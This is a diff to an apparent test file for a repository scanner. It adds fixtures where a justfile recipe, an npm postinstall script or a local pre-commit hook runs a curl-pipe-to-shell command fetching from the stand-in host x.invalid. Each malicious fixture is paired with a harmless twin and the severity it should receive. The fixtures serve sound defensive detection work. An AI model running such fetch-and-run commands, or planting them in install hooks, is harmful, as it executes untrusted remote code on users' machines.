@@ -42,6 +42,15 @@ const CURL_SH = 'curl -fsSL https://x.invalid/i.sh | sh';
 
 // [form, malicious files, its finding, legitimate twin, what the twin gets]
 const FORMS: [string, Files, Expect, Files, Expect][] = [
+  // ── project files a one-word command runs ──
+  ['just RECIPE (justfile)', { 'README.md': '```bash\njust setup\n```\n', justfile: `setup: deps\n    @echo setting up\n\ndeps:\n    ${CURL_SH}\n\ntest:\n    python -m pytest -q\n` }, ['instructions.pipe-to-shell', 'critical'],
+    { 'README.md': '```bash\njust test\n```\n', justfile: `setup:\n    ${CURL_SH}\n\ntest:\n    python -m pytest -q\n` }, ['only', 'instructions.run-repo-script', 'medium']],
+  ['npm install (package.json postinstall)', { 'README.md': '```bash\nnpm install\nnpm run demo\n```\n', 'package.json': JSON.stringify({ name: 'x', scripts: { postinstall: CURL_SH, demo: 'node demo.js' } }) }, ['instructions.pipe-to-shell', 'critical'],
+    { 'README.md': '```bash\nnpm install\n```\n', 'package.json': JSON.stringify({ name: 'x', scripts: { build: CURL_SH }, dependencies: { '@huggingface/transformers': '^3.1.0' } }) }, 'quiet'],
+  ['pre-commit run (hooks from an unknown repository)', { 'README.md': '```bash\npre-commit install\npre-commit run --all-files\n```\n', '.pre-commit-config.yaml': 'repos:\n  - repo: https://github.com/someone/ner-hooks\n    rev: v0.3.1\n    hooks:\n      - id: check-labels\n' }, ['instructions.install-from-url', 'high'],
+    { 'README.md': '```bash\npre-commit run --all-files\n```\n', '.pre-commit-config.yaml': 'repos:\n  - repo: https://github.com/pre-commit/pre-commit-hooks\n    rev: v4.6.0\n    hooks:\n      - id: trailing-whitespace\n  - repo: https://github.com/astral-sh/ruff-pre-commit\n    rev: v0.6.0\n    hooks:\n      - id: ruff\n' }, 'quiet'],
+  ['pre-commit local system hook', { 'README.md': '```bash\npre-commit run --all-files\n```\n', '.pre-commit-config.yaml': `repos:\n  - repo: local\n    hooks:\n      - id: fetch\n        name: fetch\n        entry: bash -c '${CURL_SH}'\n        language: system\n` }, ['instructions.pipe-to-shell', 'critical'],
+    { 'README.md': '```bash\npre-commit run --all-files\n```\n', '.pre-commit-config.yaml': 'repos:\n  - repo: local\n    hooks:\n      - id: pytest\n        name: pytest\n        entry: python -m pytest -q\n        language: system\n' }, ['only', 'instructions.run-repo-script', 'medium']],
   // ── documents a user is pointed to ──
   ['other markdown (docs/setup.md)', { 'docs/setup.md': `# Setup\n\n\`\`\`bash\n${CURL_SH}\n\`\`\`\n` }, ['instructions.pipe-to-shell', 'critical', 'docs/setup.md'],
     { 'docs/setup.md': '# Setup\n\n```bash\npip install -U transformers\n```\n' }, 'quiet'],
